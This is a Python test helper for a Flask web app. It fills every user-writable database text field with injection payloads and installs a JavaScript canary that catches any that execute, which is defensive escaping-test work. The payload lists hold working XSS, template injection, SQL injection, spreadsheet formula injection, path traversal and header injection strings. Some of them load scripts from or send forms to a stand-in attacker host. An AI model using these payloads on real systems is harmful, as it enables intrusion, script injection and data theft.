"""Texts that would run code, break out of an attribute, or open a foreign address, if a page let them."""

import base64
from typing import Any
from urllib.parse import quote

from flask import Flask
from sqlalchemy import JSON, String, update

from mladim.core.db import db
from mladim.participants import names
from tests.world_rows import CODES
from tests.worlds import World

HIT = "hit(1)"
EVIL = "zlo.example"
_CODE = base64.b64encode(b"<script>hit(1)</script>").decode()

_TAGS = [
    "<script>{hit}</script>",
    "<ScRiPt>{hit}</sCrIpT>",
    "<script src=//{evil}/x.js></script>",
    "<script\n>{hit}</script\n>",
    "<script/x>{hit}</script>",
    "<<script>{hit}//<</script>",
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<img src=x onerror={hit}>",
    "<img src=x onerror='{hit}'//",
    "<img/src='x'/onerror={hit}>",
    '<img src="x` `<script>{hit}</script>"` `>',
    "<svg onload={hit}>",
    "<svg/onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{hit}><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={hit}>#x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={hit}>",
    "<math href=javascript:{hit}>x</math>",
    "<body onload={hit}>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "<iframe src=javascript:parent.{hit}>",
    "<iframe src=//{evil}/>",
    "<object data=javascript:{hit}>",
    "<embed src=javascript:{hit}>",
    "<object data=//{evil}/x.swf>",
    "<details open ontoggle={hit}>x</details>",
    "<video src=x onerror={hit}></video>",
    "<video><source onerror={hit}></video>",
    "<audio src=x onerror={hit}>",
    "<input autofocus onfocus={hit}>",
    "<select autofocus onfocus={hit}></select>",
    "<textarea autofocus onfocus={hit}>x</textarea>",
    "<button autofocus onfocus={hit}>x</button>",
    "<marquee onstart={hit}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=//{evil}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<base href=//{evil}/>",
    "<link rel=stylesheet href=//{evil}/x.css>",
    "<link rel=preload as=script href=//{evil}/x.js>",
    "<style>@import '//{evil}/x.css';</style>",
    "<style>*{{background:url(//{evil}/x)}}</style>",
    "<p style=animation-name:x onanimationstart={hit}>x</p>",
    "<p style='background:url(//{evil}/x)'>x</p>",
    "<form action=//{evil}/><button>Shrani</button></form>",
    "<form id=f></form><button form=f formaction=javascript:{hit}>x</button>",
    "<a href=javascript:{hit}>x</a>",
    "<a href='java\tscript:{hit}'>x</a>",
    "<a href=' javascript:{hit}'>x</a>",
    "<a href='data:text/html,<script>{hit}</script>'>x</a>",
    "<table background=//{evil}/x><tr><td>x</table>",
    "<isindex type=image src=x onerror={hit}>",
    "<x onclick={hit} id=main tabindex=1>x</x>",
    "<template><script>{hit}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>",
    "<dialog open onclose={hit}><form method=dialog><button>x</button></form></dialog>",
    "<slot onslotchange={hit}></slot>",
    "<portal src=//{evil}/>",
    "<xss contenteditable onbeforeinput={hit}>x</xss>",
    "<img srcset='//{evil}/x 1x'>",
]
_BREAKS = [
    '"><script>{hit}</script>',
    "'><script>{hit}</script>",
    '" onmouseover="{hit}" x="',
    "' onmouseover='{hit}' x='",
    '" autofocus onfocus="{hit}',
    "' autofocus onfocus='{hit}",
    "` onmouseover=`{hit}",
    '" style="background:url(//{evil}/x)',
    "</title><script>{hit}</script>",
    "</textarea><script>{hit}</script>",
    "</script><script>{hit}</script>",
    "</style><script>{hit}</script>",
    "</option></select><img src=x onerror={hit}>",
    "</h1></main><script>{hit}</script>",
    "--><script>{hit}</script><!--",
    "]]><script>{hit}</script>",
    "<!--<script>{hit}</script>-->",
    "<!--[if gte IE 4]><script>{hit}</script><![endif]-->",
    "<![CDATA[<script>{hit}</script>]]>",
    "<?xml version='1.0'?><script>{hit}</script>",
    "<!DOCTYPE x [<!ENTITY x '<script>{hit}</script>'>]>&x;",
    '"}}]}};{hit};//',
    "';{hit};//",
    "\\';{hit};//",
    '\\";{hit};//',
    "${{{hit}}}",
    "{{{{ {hit} }}}}",
    "{{{{ config }}}}",
    "{{{{ 7*7 }}}}",
    "{{% for x in config %}}{{{{ x }}}}{{% endfor %}}",
    "#{{{hit}}}",
    "<%= {hit} %>",
    "*{{{hit}}}",
    "%s%n%d {{0}} {{x}}",
    "\u2028{hit}\u2029",
    "\u202e<script>{hit}</script>",
    "\ufeff<script>{hit}</script>",
    "\u00ad<script>{hit}</script>",
    "\uff1cscript\uff1e{hit}\uff1c/script\uff1e",
    "\u02badonmouseover={hit}",
    "&lt;script&gt;{hit}&lt;/script&gt;",
    "&#60;script&#62;{hit}&#60;/script&#62;",
    "&#x3C;script&#x3E;{hit}&#x3C;/script&#x3E;",
    "\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{hit}\\x3c/script\\x3e",
    "+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    "<\u200bscript>{hit}</script>",
    "javascript:{hit}",
    "JaVaScRiPt:{hit}",
    "java\nscript:{hit}",
    "&#106;avascript:{hit}",
    "javascript://%0a{hit}",
    "vbscript:{hit}",
    "//{evil}/",
    "/\\{evil}/",
    "https:{evil}",
    "\\\\{evil}\\x",
    "'; DROP TABLE person; --",
    "1' OR '1'='1",
    '=HYPERLINK("//{evil}/","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "x\r\nSet-Cookie: hit=1",
    "x%0d%0aLocation:%20//{evil}/",
]
PAYLOADS = [text.format(hit=HIT, evil=EVIL) for text in (*_TAGS, *_BREAKS)]
PAYLOADS += [
    f"data:text/html;base64,{_CODE}",
    quote("<script>hit(1)</script>"),
    quote(quote("<svg onload=hit(1)>")),
]
# Answers instead of words in every page: alert and its like, and a name that no other script has.
CANARY = """
window.hits = [];
window.hit = (number) => window.hits.push(number);
for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = window.hit;
addEventListener('securitypolicyviolation', (event) => window.hits.push(`csp ${event.blockedURI}`));
"""


def poison(app: Flask, worlds: dict[str, World]) -> int:
    """Put a payload into every text that somebody could have written; returns how many were put."""
    place = 0
    with app.test_request_context("/"):
        for table in db.metadata.sorted_tables:
            columns = [column for column in table.columns if _is_free(table.name, column)]
            for row in _rows(table):
                texts: dict[str, Any] = {}
                for column in columns:
                    room = getattr(column.type, "length", None)
                    chosen, place = _next(place, room)
                    texts[column.name] = "\n".join(PAYLOADS) if room is None else chosen
                if texts:
                    keys = [column == row[column.name] for column in table.primary_key.columns]
                    db.session.execute(update(table).where(*keys).values(texts))
        for world in worlds.values():
            _poison_name(world, PAYLOADS[place % len(PAYLOADS)])
        db.session.commit()
    return place


def _rows(table: Any) -> list[Any]:
    return list(db.session.execute(table.select()).mappings())


def _next(place: int, room: int | None) -> tuple[str, int]:
    """The next payload that fits whole."""
    for step in range(len(PAYLOADS)):
        text = PAYLOADS[(place + step) % len(PAYLOADS)]
        if room is None or len(text) <= room:
            return text, place + step + 1
    return PAYLOADS[place % len(PAYLOADS)][:room], place + 1


def _is_free(table: str, column: Any) -> bool:
    """A text without a code, a hash or a file behind it."""
    fixed = {
        "email",
        "slug",
        "secret_hash",
        "code_hash",
        "stored_as",
        "proof_stored_as",
        "photo_stored_as",
        "sha256",
        "bucket",
        "lookup",
        "key_id",
        "key",
    }
    fixed |= {"request_hash", "import_key", "former_key_id", "recipient"}
    is_code = f"{table}.{column.name}" in CODES or (column.name in CODES and column.name != "web")
    is_text = isinstance(column.type, String) and not isinstance(column.type, JSON)
    # A frozen figure is never changed; the database itself refuses.
    untouched = {"alembic_version", "frozen_figure"}
    return is_text and not is_code and column.name not in fixed and table not in untouched


def _poison_name(world: World, payload: str) -> None:
    for state in ("live", "deleted"):
        number = world.value("participant", "id", state)
        sealed = names.seal(payload, organisation_id=world.organisation_id, participant_id=number)
        table = db.metadata.tables["participant_name"]
        query = update(table).where(table.c.participant_id == number)
        db.session.execute(query.values(ciphertext=sealed.ciphertext, key_id=sealed.key_id))
